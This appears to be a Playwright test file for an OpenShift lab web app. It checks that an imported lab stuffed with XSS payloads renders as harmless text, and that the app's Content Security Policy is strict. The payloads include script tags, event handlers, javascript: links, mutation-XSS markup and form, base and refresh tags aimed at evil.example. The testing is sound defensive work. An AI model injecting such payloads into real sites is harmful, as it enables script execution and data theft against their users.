import { readFileSync } from 'node:fs'
import { expect, test, type Page } from '@playwright/test'
import { clearSaved, guardNetwork, openSandbox, runCommand, waitForScreen } from './helpers'

// nothing leaves the origin, nothing fails, nothing logs an error (checked after each test)
const net = guardNetwork()
let dialogs: string[]

test.beforeEach(async ({ page }) => {
  dialogs = []
  page.on('dialog', (d) => {
    dialogs.push(`${d.type()}: ${d.message()}`)
    void d.dismiss()
  })
  // every Content Security Policy violation the page (or a payload) causes
  await page.addInitScript(() => {
    const w = window as unknown as { __csp: string[] }
    w.__csp = []
    document.addEventListener('securitypolicyviolation', (e) => {
      w.__csp.push(`${e.violatedDirective} blocked ${e.blockedURI || '(inline)'} at ${e.sourceFile}:${e.lineNumber}:${e.columnNumber} ${e.sample}`)
    })
  })
})

test.afterEach(() => {
  expect(dialogs, 'dialogs opened by the page').toEqual([])
})

const cspViolations = (page: Page) => page.evaluate(() => (window as unknown as { __csp: string[] }).__csp)
const xssFlag = (page: Page) => page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss ?? null)

/** every payload sets `window.__xss` and opens a dialog if it ever runs */
const RUN = 'window.__xss=1;alert(document.domain)'
const PAYLOADS = [
  `<img src=x onerror="${RUN}">`,
  `<script>${RUN}</script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<a href="javascript:${RUN}" data-testid="js-link">javascript link</a>`,
  `<a href="JaVaScRiPt&colon;alert(1)">entity link</a>`,
  `[markdown js link](javascript:alert(1))`,
  `<svg onload="${RUN}"><circle r="4"/></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"/></svg>`,
  `<iframe srcdoc="<script>parent.__xss=1;parent.alert(1)</script>"></iframe>`,
  `<iframe src="javascript:parent.__xss=1"></iframe>`,
  `<object data="data:text/html,<script>parent.__xss=1</script>"></object>`,
  `<embed src="data:text/html,<script>parent.__xss=1</script>">`,
  `<div onmouseover="${RUN}" onclick="${RUN}" data-testid="evented">hover me</div>`,
  `<details open ontoggle="${RUN}"><summary>toggle</summary>x</details>`,
  `<p style="width:expression(alert(1));background:url(https://evil.example/bg.png)">css expression</p>`,
  `<style>@import url("https://evil.example/x.css"); body { background: url(https://evil.example/b.png) }</style>`,
  `<form action="https://evil.example/steal"><input name="q" autofocus onfocus="${RUN}"><button>go</button></form>`,
  `<img src="https://evil.example/tracker.png" alt="tracker">`,
  `<img name="getElementById"><form id="documentElement"></form>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/">`,
  `Code span: \`<img src=x onerror="${RUN}">\``,
  '```html\n<script>window.__xss=1</script>\n```',
  `An external link: [OpenShift docs](https://docs.openshift.com/container-platform/4.18/registry/) and <a href="https://evil.example/" target="_top">raw HTML link</a>.`,
  `An internal link: [the sandbox](#/sandbox).`,
  // last: its unclosed <style> would swallow what follows
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
]

const LAB_ID = 'xss-probe'
const LAB_YAML = `id: ${LAB_ID}
title: 'XSS probe <img src=x onerror="${RUN}">'
summary: 'A lab whose every text tries to run a script <script>${RUN}</script>'
order: 99
duration: 5
level: beginner
scenario: minimal
steps:
  - id: probe
    title: 'Probe <svg onload="${RUN}">'
    file: 01-probe.md
    checks:
      - hasRead: { resource: pods, namespace: openshift-image-registry }
        message: 'Unmet <img src=x onerror="${RUN}"> [js](javascript:alert(1))'
    hints:
      - 'Hint <img src=x onerror="${RUN}"> and [click](javascript:alert(1)) and \`<script>alert(1)</script>\`'
    solution: |
      oc get pod -n openshift-image-registry
`
const LAB_MD = `# Probe\n\n${PAYLOADS.join('\n\n')}\n`

test('an imported lab full of XSS payloads renders as harmless text and links', async ({ page }) => {
  await page.goto('./')
  // let the lazily loaded chunks arrive first: a reload would abort them (a failed request)
  await page.waitForLoadState('networkidle')
  await clearSaved(page)
  await page.reload()
  await page.waitForLoadState('networkidle')
  await page.getByTestId('import-lab').setInputFiles([
    { name: 'lab.yaml', mimeType: 'text/yaml', buffer: Buffer.from(LAB_YAML) },
    { name: '01-probe.md', mimeType: 'text/markdown', buffer: Buffer.from(LAB_MD) },
  ])
  await expect(page.getByTestId('import-ok')).toContainText('XSS probe')
  const card = page.locator(`[data-testid="lab-link"][data-lab-id="${LAB_ID}"]`)
  // the title is text, not markup
  await expect(card).toHaveText(`XSS probe <img src=x onerror="${RUN}">`)

  await card.click()
  const body = page.getByTestId('step-body')
  await expect(body).toContainText('hover me')
  await page.getByTestId('hint').click()
  await expect(page.getByTestId('hint-text')).toContainText('Hint')
  await page.getByTestId('check').click()
  await expect(page.getByTestId('unmet-check')).toContainText('Unmet')
  expect(await xssFlag(page)).toBeNull()

  await body.getByText('hover me').hover()
  await body.getByText('hover me').click()
  await page.locator('details summary').click()

  // what is on the page: no active content, no event attributes, no script URLs, nothing from elsewhere
  const found = await page.evaluate(() => {
    const guide = document.querySelector('aside')!
    const all = [...document.querySelectorAll('*')]
    return {
      active: [...guide.querySelectorAll('script, iframe, frame, object, embed, svg, math, style, form, input:not([data-testid="answer"]), meta, base, link')].map((e) => e.outerHTML),
      handlers: all.flatMap((e) => [...e.attributes].filter((a) => /^on/i.test(a.name)).map((a) => `${e.tagName}[${a.name}]`)),
      styles: [...guide.querySelectorAll('[style]')].map((e) => e.outerHTML),
      scriptUrls: [...guide.querySelectorAll('*')].flatMap((e) => [...e.attributes].filter((a) => /^\s*(javascript|vbscript|data):/i.test(a.value) && a.name !== 'src').map((a) => `${e.tagName}[${a.name}=${a.value}]`)),
      foreignSrc: [...guide.querySelectorAll('[src]')].map((e) => e.getAttribute('src')!).filter((s) => /^(https?:)?\/\//.test(s)),
      inlineScripts: [...document.querySelectorAll('script')].filter((s) => !s.src).length,
      externalLinks: [...guide.querySelectorAll('a[href]')]
        .filter((a) => new URL(a.getAttribute('href')!, location.href).origin !== location.origin)
        .map((a) => ({ href: a.getAttribute('href'), rel: a.getAttribute('rel'), external: a.hasAttribute('data-external') })),
      internal: [...guide.querySelectorAll('a[href^="#/"]')].map((a) => a.getAttribute('href')),
    }
  })
  expect(found.active).toEqual([])
  expect(found.handlers).toEqual([])
  expect(found.styles).toEqual([])
  expect(found.scriptUrls).toEqual([])
  expect(found.foreignSrc).toEqual([])
  expect(found.inlineScripts).toBe(0)
  expect(found.externalLinks).toEqual([
    { href: 'https://docs.openshift.com/container-platform/4.18/registry/', rel: 'noopener noreferrer', external: true },
    { href: 'https://evil.example/', rel: 'noopener noreferrer', external: true },
  ])
  expect(found.internal).toContain('#/sandbox')
  // HTML in a code span is shown as text
  await expect(body.locator('code', { hasText: '<img src=x onerror=' }).first()).toBeVisible()

  // an external link opens nothing: no new page, no navigation, no request (asserted after the test)
  const url = page.url()
  const popups: string[] = []
  page.context().on('page', (p) => popups.push(p.url()))
  await body.getByRole('link', { name: 'OpenShift docs' }).click()
  await body.getByRole('link', { name: 'raw HTML link' }).click({ modifiers: ['Control'] })
  await body.getByRole('link', { name: 'OpenShift docs' }).click({ button: 'middle' })
  await page.waitForTimeout(300)
  expect(page.url()).toBe(url)
  expect(popups).toEqual([])

  // nothing ran. Chromium applies the page's CSP to the inert document DOMPurify parses each payload into, and
  // reports every event attribute it meets there as a refused `script-src-attr` (nothing runs: the sanitiser then
  // drops them). Those reports, all from that one parsing call in the bundle, are the only ones allowed: a handler
  // that reached the page and fired would be reported from the page itself.
  expect(await xssFlag(page)).toBeNull()
  // leave the lab (nothing re-renders the payloads any more), then read the reports
  await page.goto('./#/')
  await expect(page.getByTestId('lab-link').first()).toBeVisible()
  const violations = await cspViolations(page).catch(() => [] as string[])
  const places = new Set(violations.map((v) => v.slice(v.lastIndexOf(' at ') + 4)))
  expect([...places].filter((p) => !/^https?:\/\/[^ ]+\/assets\/[\w.-]+\.js:\d+:\d+ $/.test(p)), 'CSP reports from outside the sanitiser').toEqual([])
  expect(places.size, 'CSP reports come from one place: the sanitiser parsing the payloads').toBeLessThanOrEqual(1)
  expect(violations.filter((v) => !/^(script-src-attr|base-uri) blocked /.test(v))).toEqual([])
  const errors = net.log.consoleErrors
  const parseReport = /^(Executing inline event handler violates the following Content Security Policy directive 'script-src 'self''|Setting the document's base URI to '[^']+' violates the following Content Security Policy directive: "base-uri 'self'")/
  errors.splice(0, errors.length, ...errors.filter((e) => !parseReport.test(e)))
})

test('the Content Security Policy is strict and Monaco works under it', async ({ page }) => {
  // the policy as served: no inline scripts, no eval, nothing from elsewhere
  const html = readFileSync(new URL('../dist/index.html', import.meta.url), 'utf8')
  const csp = /<meta\s+http-equiv="Content-Security-Policy"\s+content="([^"]+)"/.exec(html)?.[1]
  expect(csp, 'the built index.html has a CSP').toBeTruthy()
  const directives = Object.fromEntries(csp!.split(';').map((d) => d.trim().split(/\s+/)).map(([k, ...v]) => [k, v]))
  expect(directives['default-src']).toEqual(["'self'"])
  expect(directives['script-src']).toEqual(["'self'"])
  expect(directives['object-src']).toEqual(["'none'"])
  expect(directives['connect-src']).toEqual(["'self'"])
  expect(csp).not.toMatch(/unsafe-eval|wasm-unsafe-eval|strict-dynamic/)
  expect(directives['script-src']).not.toContain("'unsafe-inline'")
  expect(html).not.toMatch(/<script(?![^>]*\ssrc=)[^>]*>/)

  await openSandbox(page)
  const served = await page.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content'))
  expect(served).toBe(csp)
  // an inline script is refused (and reported), so a payload that got through could not run either
  await page.addScriptTag({ content: 'window.__xss = "inline"' }).catch(() => {})
  expect(await xssFlag(page)).toBeNull()
  await expect.poll(() => cspViolations(page)).toEqual([expect.stringMatching(/^script-src/)])
  // the browser's own report of that refusal is expected here, and only here
  const errors = net.log.consoleErrors
  await expect.poll(() => errors.filter((e) => /inline script violates the following Content Security Policy/.test(e)).length).toBe(1)
  errors.splice(0, errors.length, ...errors.filter((e) => !/inline script violates the following Content Security Policy/.test(e)))
  await page.evaluate(() => ((window as unknown as { __csp: string[] }).__csp.length = 0))

  await runCommand(page, 'oc edit deployment cluster-image-registry-operator -n openshift-image-registry')
  const pane = page.getByTestId('editor')
  await expect(pane).toHaveAttribute('data-ready', 'true', { timeout: 20_000 })
  await page.locator('[data-testid="editor"] .monaco-editor textarea').first().focus()
  await page.keyboard.press('Control+Home')
  await page.keyboard.press('Control+f')
  await page.keyboard.type('revisionHistoryLimit: 10')
  await page.keyboard.press('Escape')
  await page.keyboard.press('End')
  await page.keyboard.press('Backspace')
  await page.keyboard.press('Backspace')
  await page.keyboard.type('lots')
  // the YAML worker (monaco-yaml) validated it against the schema: a marker in the text and in the problems list
  await expect(pane.getByTestId('editor-problems')).toContainText(/Incorrect type\. Expected "integer/, { timeout: 15_000 })
  await expect(pane.locator('.view-overlays [class*="squiggly-"]').first()).toBeAttached({ timeout: 15_000 })

  await pane.getByTestId('editor-cancel').click()
  await waitForScreen(page, 'Edit cancelled, no changes made.')
  expect(await cspViolations(page), 'CSP violations with Monaco at work').toEqual([])
})
